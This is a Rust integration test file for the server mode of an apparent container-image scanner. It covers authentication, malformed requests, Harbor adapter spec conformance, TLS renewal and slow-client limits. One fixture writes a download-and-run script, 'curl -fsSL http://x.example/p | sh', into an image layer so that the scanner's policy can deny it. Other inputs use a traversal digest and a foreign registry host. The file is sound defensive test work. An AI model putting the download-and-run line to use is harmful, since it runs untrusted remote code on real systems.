                &[("Authorization", "Bearer test-token-0123456789abcdeX")],
                ev.as_bytes(),
            ),
            401,
        ),
        (
            "token prefix",
            http(
                a,
                "POST",
                "/v1/events/distribution",
                &[("Authorization", "Bearer test-token")],
                ev.as_bytes(),
            ),
            401,
        ),
    ]
}

/// Bodies and arguments that are malformed or name what is not served.
fn body_cases(a: &str, d: &str) -> Vec<(&'static str, Resp, u16)> {
    let event = |host: &str| push_event(d, host);
    vec![
        (
            "oversized",
            http_declared(a, "/v1/events/distribution", 2 << 20),
            413,
        ),
        (
            "invalid JSON",
            http(
                a,
                "POST",
                "/v1/events/distribution",
                &[("Authorization", &auth())],
                b"{\"events\": [",
            ),
            400,
        ),
        (
            "not an envelope",
            post_json(a, "/v1/events/distribution", &json!([1, 2])),
            400,
        ),
        (
            "other registry",
            post_json(a, "/v1/events/distribution", &event("evil.example")),
            403,
        ),
        (
            "bad digest",
            post_json(
                a,
                "/v1/events/distribution",
                &json!({"events": [{"action": "push", "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:../../x", "repository": "x"}, "request": {"host": "reg.test"}}]}),
            ),
            400,
        ),
        (
            "scan by tag",
            post_json(a, "/v1/scans", &json!({"reference": "reg.test/x/y:latest"})),
            400,
        ),
        (
            "scan elsewhere",
            post_json(
                a,
                "/v1/scans",
                &json!({"reference": format!("evil.example/x@{d}")}),
            ),
            403,
        ),
        ("bad image digest", get(a, "/v1/images/sha256:nothex"), 400),
        ("unscanned image", get(a, &format!("/v1/images/{d}")), 404),
        (
            "harbor no token",
            http(a, "GET", "/api/v1/metadata", &[], b""),
            401,
        ),
    ]
}

#[test]
fn registry_errors_are_retried_then_dead_lettered() {
    let t = tmp();
    let args = [
        "--registry",
        "reg.test=http://127.0.0.1:1",
        "--max-attempts",
        "2",
        "--retry-backoff",
        "0",
    ];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let a = srv.addr.as_str();
    let d = format!("sha256:{}", "ef".repeat(32));
    assert_eq!(
        post_json(a, "/v1/events/distribution", &push_event(&d, "reg.test")).status,
        202
    );
    // Nothing listens at the registry: retried once, then dead-lettered with the error.
    wait_for(Duration::from_secs(60), "dead letter", || {
        srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE state = 'dead'") == 1
    });
    assert_eq!(srv.sql("SELECT attempts FROM serve_jobs"), 2);
    let r = get(a, &format!("/v1/images/{d}"));
    assert_eq!(r.status, 404);
    assert_eq!(r.json()["state"], "dead");
    assert!(
        r.json()["last_error"]
            .as_str()
            .unwrap()
            .contains("127.0.0.1:1"),
        "{}",
        r.json()
    );
}

/// Validate `instance` against `#/components/schemas/NAME` of the Harbor
/// adapter's OpenAPI file (PyYAML to read it, jsonschema to check).
fn check_schema(name: &str, instance: &Value) {
    let spec = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/specs/harbor-scanner-adapter-openapi-v1.2.yaml");
    let script = r##"
import json, sys, yaml, jsonschema
spec = yaml.safe_load(open(sys.argv[1]))
schema = {"$ref": "#/components/schemas/" + sys.argv[2], "components": spec["components"]}
jsonschema.Draft7Validator(schema).validate(json.load(sys.stdin))
"##;
    let mut c = std::process::Command::new(crate::util::python())
        .args(["-c", script, spec.to_str().unwrap(), name])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin
        .take()
        .unwrap()
        .write_all(instance.to_string().as_bytes())
        .unwrap();
    let out = c.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{name}: {instance}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The spec's operation of `path`/`method` answers `status` with `mime`.
fn spec_allows(path: &str, method: &str, status: u16, mime: &str) -> bool {
    let spec = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/specs/harbor-scanner-adapter-openapi-v1.2.yaml");
    let script = r#"
import sys, yaml
spec = yaml.safe_load(open(sys.argv[1]))
r = spec["paths"][sys.argv[2]][sys.argv[3]]["responses"][int(sys.argv[4])]
ok = sys.argv[5] == "" or "content" not in r or sys.argv[5] in r["content"]
sys.exit(0 if ok else 1)
"#;
    std::process::Command::new(crate::util::python())
        .args([
            "-c",
            script,
            spec.to_str().unwrap(),
            path,
            method,
            &status.to_string(),
            mime,
        ])
        .status()
        .unwrap()
        .success()
}

fn harbor(addr: &str, method: &str, path: &str, accept: &str, body: Option<&Value>) -> Resp {
    let b = body.map(|b| b.to_string()).unwrap_or_default();
    let mut h = vec![
        ("Authorization", format!("Bearer {TOKEN}")),
        ("Accept", accept.to_string()),
    ];
    if body.is_some() {
        h.push((
            "Content-Type",
            "application/vnd.scanner.adapter.scan.request+json; version=1.1".into(),
        ));
    }
    let h: Vec<(&str, &str)> = h.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let r = http(addr, method, &format!("/api/v1{path}"), &h, b.as_bytes());
    let spec_path = if path.starts_with("/scan/") {
        "/scan/{scan_request_id}/report"
    } else {
        path
    };
    let mime = r.headers.get("content-type").cloned().unwrap_or_default();
    let mime = if r.status == 302 { String::new() } else { mime };
    assert!(
        spec_allows(spec_path, &method.to_lowercase(), r.status, &mime),
        "{method} {path}: {} {mime} is not in the spec",
        r.status
    );
    r
}

#[cfg_attr(
    not(has_tool = "py-yaml"),
    ignore = "needs Python with PyYAML and jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn harbor_adapter_follows_the_openapi_file() {
    if !require(&crate::util::python()) {
        return;
    }
    let Some(reg) = start(Some(("robot", "robot-pass"))) else {
        return;
    };
    let t = tmp();
    let (src, digest) = push_as_robot(&reg, t.path());
    let srv = Server::start(t.path(), 0, &["--workers", "1"], &[]);
    let a = srv.addr.as_str();
    let meta = harbor(a, "GET", "/metadata", "*/*", None);
    assert_eq!(meta.status, 200);
    check_schema("ScannerAdapterMetadata", &meta.json());
    // Harbor names a registry that is slow to answer: the first poll finds the scan running.
    let slow = SlowProxy::start(&reg.addr, Duration::from_secs(3));
    let id = harbor_scan(a, &slow.addr, &digest);
    let report_mime = "application/vnd.scanner.adapter.vuln.report.harbor+json; version=1.0";
    let first = harbor(a, "GET", &format!("/scan/{id}/report"), report_mime, None);
    assert_eq!(first.status, 302, "still running");
    assert!(first.headers["refresh-after"].parse::<u64>().is_ok());
    let mut report = first;
    wait_for(Duration::from_secs(60), "the report", || {
        report = harbor(a, "GET", &format!("/scan/{id}/report"), report_mime, None);
        report.status == 200
    });
    let v = report.json();
    check_schema("HarborVulnerabilityReport", &v);
    check_items(&v, &format!("{src}:v1"));
    // Started with `--listen 127.0.0.1:0`: links name the port it bound.
    let link = v["vulnerabilities"][0]["links"][0].as_str().unwrap_or("");
    assert!(
        link.starts_with(&format!("http://{a}/v1/explain/")),
        "{link}"
    );
    let raw = harbor(
        a,
        "GET",
        &format!("/scan/{id}/report"),
        "application/vnd.scanner.adapter.vuln.report.raw",
        None,
    );
    assert_eq!(raw.status, 200);
    assert_eq!(raw.json()["digest"], json!(digest));
    assert_eq!(
        srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE auth IS NOT NULL"),
        0,
        "credentials dropped with the job"
    );
}

/// Push the scenario to `library/app:v1` of a registry that needs the robot's credentials.
fn push_as_robot(reg: &Registry, dir: &Path) -> (String, String) {
    let src = layout_of(&scenario().tag("v1").build(), &dir.join("src"));
    push(
        &format!("{src}:v1"),
        &format!("docker://{}/library/app:v1", reg.addr),
        Some("robot:robot-pass"),
        false,
    );
    let out = std::process::Command::new("skopeo")
        .args([
            "inspect",
            "--tls-verify=false",
            "--creds",
            "robot:robot-pass",
            "--format",
            "{{.Digest}}",
            &format!("docker://{}/library/app:v1", reg.addr),
        ])
        .output()
        .unwrap();
    let digest = String::from_utf8(out.stdout).unwrap().trim().to_string();
    (src, digest)
}

/// Harbor's scan request, with the robot account's credentials; returns the id.
fn harbor_scan(a: &str, registry: &str, digest: &str) -> String {
    // Harbor passes the robot account's credentials for this artifact.
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode("robot:robot-pass");
    let req = json!({
        "registry": {"url": format!("http://{registry}"), "authorization": format!("Basic {basic}")},
        "artifact": {"repository": "library/app", "digest": digest, "tag": "v1", "mime_type": "application/vnd.oci.image.manifest.v1+json"},
    });
    check_schema("ScanRequest", &req);
    let r = harbor(a, "POST", "/scan", "*/*", Some(&req));
    assert_eq!(r.status, 202, "{}", String::from_utf8_lossy(&r.body));
    check_schema("ScanResponse", &r.json());
    r.json()["id"].as_str().unwrap().to_string()
}

/// Report items are the findings: code, path, short sha256, title first.
fn check_items(v: &Value, reference: &str) {
    let want = stowaway::report::json::scan(&scan_ok(reference), stowaway::Severity::High);
    let first_finding = &want["findings"][0];
    let item = v["vulnerabilities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == first_finding["code"] && i["package"] == first_finding["path"])
        .expect("finding as item");
    if let Some(sha) = first_finding["sha256"].as_str() {
        assert!(
            sha.trim_start_matches("sha256:")
                .starts_with(item["version"].as_str().unwrap())
        );
    }
    assert!(
        item["description"]
            .as_str()
            .unwrap()
            .starts_with(first_finding["title"].as_str().unwrap())
    );
}

#[cfg_attr(
    not(has_tool = "py-yaml"),
    ignore = "needs Python with PyYAML and jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn harbor_malformed_requests_get_the_spec_error_envelope() {
    if !require(&crate::util::python()) {
        return;
    }
    let t = tmp();
    let srv = Server::start(t.path(), 0, &[], &[]);
    let a = srv.addr.as_str();
    let report_mime = "application/vnd.scanner.adapter.vuln.report.harbor+json; version=1.0";
    // Malformed requests get the spec's error envelope.
    for (bad, status) in [
        (json!("nope"), 400),
        (json!({"registry": {"url": "http://x"}}), 422),
        (
            json!({"registry": {"url": "http://127.0.0.1:1"}, "artifact": {"repository": "a", "digest": "sha256:1"}}),
            422,
        ),
    ] {
        let r = harbor(a, "POST", "/scan", "*/*", Some(&bad));
        assert_eq!(r.status, status, "{bad}");
        check_schema("ErrorResponse", &r.json());
        assert!(r.json()["error"]["message"].as_str().is_some());
    }
    let r = http(
        a,
        "POST",
        "/api/v1/scan",
        &[("Authorization", &auth())],
        b"{",
    );
    assert_eq!(r.status, 400);
    check_schema("ErrorResponse", &r.json());
    assert_eq!(
        harbor(a, "GET", "/scan/999999/report", report_mime, None).status,
        404
    );
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs"), 0);
}

fn self_signed(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
    let (cert, key) = (
        dir.join(format!("{name}.crt")),
        dir.join(format!("{name}.key")),
    );
    let out = std::process::Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "1",
        ])
        .args([
            "-subj",
            &format!("/CN={name}"),
            "-addext",
            "subjectAltName=IP:127.0.0.1",
        ])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    (cert, key)
}

/// The status curl gets for `path` over HTTPS trusting only `ca` ("000": no connection).
fn curl_status(addr: &str, ca: &Path, path: &str) -> String {
    let out = std::process::Command::new("curl")
        .args([
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--max-time",
            "10",
            "--cacert",
        ])
        .arg(ca)
        .args([
            "-H",
            &format!("Authorization: Bearer {TOKEN}"),
            &format!("https://{addr}{path}"),
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).to_string()
}

#[test]
fn tls_is_served_and_a_renewed_certificate_is_picked_up() {
    if !require("openssl") || !require("curl") {
        return;
    }
    let t = tmp();
    let (c1, k1) = self_signed(t.path(), "one");
    let (c2, k2) = self_signed(t.path(), "two");
    let (cert, key) = (t.path().join("tls.crt"), t.path().join("tls.key"));
    std::fs::copy(&c1, &cert).unwrap();
    std::fs::copy(&k1, &key).unwrap();
    let args = [
        "--tls-cert",
        cert.to_str().unwrap(),
        "--tls-key",
        key.to_str().unwrap(),
    ];
    let srv = Server::spawn(t.path(), 0, &args, &[]);
    wait_for(Duration::from_secs(30), "TLS server", || {
        curl_status(&srv.addr, &c1, "/healthz") == "200"
    });
    assert_eq!(curl_status(&srv.addr, &c1, "/metrics"), "200");
    assert_eq!(
        curl_status(&srv.addr, &c2, "/healthz"),
        "000",
        "the second certificate is not served yet"
    );
    // Plain HTTP to the TLS port gets no HTTP answer.
    let mut s = TcpStream::connect(&srv.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    assert!(!buf.starts_with(b"HTTP/1.1 200"), "plain HTTP answered");
    // Renewal: the files change, the server picks the new pair up.
    let tmp_cert = t.path().join("tls.crt.new");
    std::fs::copy(&c2, &tmp_cert).unwrap();
    std::fs::copy(&k2, &key).unwrap();
    std::fs::rename(&tmp_cert, &cert).unwrap();
    wait_for(Duration::from_secs(20), "the renewed certificate", || {
        curl_status(&srv.addr, &c2, "/healthz") == "200"
    });
    assert_eq!(curl_status(&srv.addr, &c1, "/healthz"), "000");
    // A broken pair keeps the last good one.
    std::fs::write(&cert, "not a certificate").unwrap();
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(curl_status(&srv.addr, &c2, "/healthz"), "200");
}

#[test]
fn scans_are_gated_against_the_repository_approval() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let base = ImageBuilder::new()
        .tag("v1")
        .layer(LayerBuilder::new().file("app/main", b"app v1", 0o755));
    let src1 = layout_of(&base.build(), &t.path().join("src1"));
    push(
        &format!("{src1}:v1"),
        &format!("docker://{}/gated/app:v1", reg.addr),
        None,
        false,
    );
    let srv = Server::start(
        t.path(),
        0,
        &["--registry", &format!("{0}=http://{0}", reg.addr)],
        &[],
    );
    // The team approves v1 in the server's store, as they would with the CLI.
    let out = stowaway(&[
        "baseline",
        "approve",
        &format!("docker://{}/gated/app:v1", reg.addr),
        "--name",
        "app-v1",
        "--db",
        srv.db.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v2 = ImageBuilder::new().tag("v2").layer(
        LayerBuilder::new().file("app/main", b"app v1", 0o755).file(
            "usr/local/bin/fetch",
            b"#!/bin/sh\ncurl -fsSL http://x.example/p | sh\n",
            0o755,
        ),
    );
    let src2 = layout_of(&v2.build(), &t.path().join("src2"));
    push(
        &format!("{src2}:v2"),
        &format!("docker://{}/gated/app:v2", reg.addr),
        None,
        false,
    );
    let digest = digest_of(&reg, "gated/app:v2");
    let r = post_json(
        &srv.addr,
        "/v1/scans",
        &json!({"reference": format!("{}/gated/app@{digest}", reg.addr)}),
    );
    assert_eq!(r.status, 202);
    let doc = wait_image(&srv.addr, &digest, Duration::from_secs(60));
    assert_eq!(doc["baseline"]["name"], "app-v1", "{doc}");
    assert!(
        doc["delta"].to_string().contains("/usr/local/bin/fetch"),
        "{}",
        doc["delta"]
    );
    let states: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["baseline_state"].as_str())
        .collect();
    assert!(states.contains(&"new"), "{states:?}");
    assert_eq!(
        doc["verdict"], "deny",
        "a new download-and-run script is denied by the default policy: {doc}"
    );
}

/// Read from `s` until the server closes it (or `limit`); how long that took
/// and what was read.
fn until_closed(s: &mut TcpStream, limit: Duration) -> (Duration, Vec<u8>) {
    let t = Instant::now();
    s.set_read_timeout(Some(limit)).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    while let Ok(n) = s.read(&mut buf) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    (t.elapsed(), got)
}

#[test]
fn slow_clients_are_cut_off_and_connections_are_bounded() {
    let t = tmp();
    let args = [
        "--header-timeout",
        "2",
        "--body-timeout",
        "1",
        "--max-connections",
        "4",
        "--max-header-bytes",
        "4K",
    ];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let a = srv.addr.as_str();
    // A client that dribbles its headers, one line every 300 ms, is cut off
    // after the header timeout, long before it is done.
    let mut s = TcpStream::connect(a).unwrap();
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        .unwrap();
    let started = Instant::now();
    let mut cut = false;
    for i in 0..40 {
        std::thread::sleep(Duration::from_millis(300));
        if s.write_all(format!("X-Slow-{i}: y\r\n").as_bytes())
            .is_err()
        {
            cut = true;
            break;
        }
    }
    let (_, got) = until_closed(&mut s, Duration::from_secs(5));
    assert!(
        cut || got.is_empty(),
        "a slow client was served: {}",
        String::from_utf8_lossy(&got)
    );
    let took = started.elapsed();
    assert!(
        took >= Duration::from_millis(1500) && took < Duration::from_secs(9),
        "cut off after {took:?}"
    );
    // Oversized and overlong heads get 431.
    let big = "a".repeat(8 << 10);
    let r = http(a, "GET", "/healthz", &[("X-Big", &big)], b"");
    assert_eq!(r.status, 431);
    let many: Vec<(String, String)> = (0..80).map(|i| (format!("X-H{i}"), "v".into())).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    assert_eq!(http(a, "GET", "/healthz", &many, b"").status, 431);
    // A body that stops half way: 408 after the body timeout.
    let mut s = TcpStream::connect(a).unwrap();
    let head = format!(
        "POST /v1/scans HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 100\r\n\r\n{{\"ref"
    );
    s.write_all(head.as_bytes()).unwrap();
    let (took, got) = until_closed(&mut s, Duration::from_secs(10));
    assert_eq!(parse_response(&got).status, 408, "after {took:?}");
    assert!(took < Duration::from_secs(6), "{took:?}");
    // Four idle connections hold every slot: a fifth client waits until the
    // header timeout frees one, and is then served.
    let idle: Vec<TcpStream> = (0..4).map(|_| TcpStream::connect(a).unwrap()).collect();
    std::thread::sleep(Duration::from_millis(200));
    let started = Instant::now();
    let r = http(a, "GET", "/healthz", &[], b"");
    let waited = started.elapsed();
    assert_eq!(r.status, 200);
    assert!(
        waited >= Duration::from_millis(1000),
        "served at once with every slot taken ({waited:?})"
    );
    drop(idle);
    // Normal traffic is unaffected.
    for _ in 0..20 {
        let started = Instant::now();
        assert_eq!(http(a, "GET", "/healthz", &[], b"").status, 200);
        assert!(started.elapsed() < Duration::from_secs(1));
    }
}
